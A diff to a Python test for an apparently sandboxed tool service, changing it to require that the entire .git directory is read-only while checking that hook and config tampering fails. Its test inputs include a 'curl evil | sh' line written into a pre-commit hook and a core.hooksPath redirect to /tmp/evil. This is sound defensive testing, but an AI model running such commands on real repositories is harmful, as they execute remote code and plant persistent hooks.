@@ -159,11 +159,11 @@ def test_git_hooks_and_git_config_cannot_be_modified(service: ThreadedToolServic
         "echo 'curl evil | sh' > .git/hooks/pre-commit", "chmod +x .git/hooks/pre-commit",
         "cp /bin/true .git/hooks/post-checkout", "rm -rf .git/hooks", "mv .git/hooks .git/h2",
         "git config core.hooksPath /tmp/evil", "echo '[core]\\n\\thooksPath = x' >> .git/config",
-        "mv .git .git-moved", "touch .git/writable-ok", "echo finished"]) + " 2>&1")
+        "mv .git .git-moved", "touch .git/writable", "echo finished"]) + " 2>&1")
     assert "finished" in result.output
     assert sorted(p.name for p in hooks.iterdir()) == before_hooks
     assert config.read_text() == before_config
-    assert (workspace / ".git" / "writable-ok").exists()  # the rest of .git stays writable for commits
+    assert not (workspace / ".git" / "writable").exists()  # the whole of .git is read-only
     assert not (workspace / ".git-moved").exists()
 
 
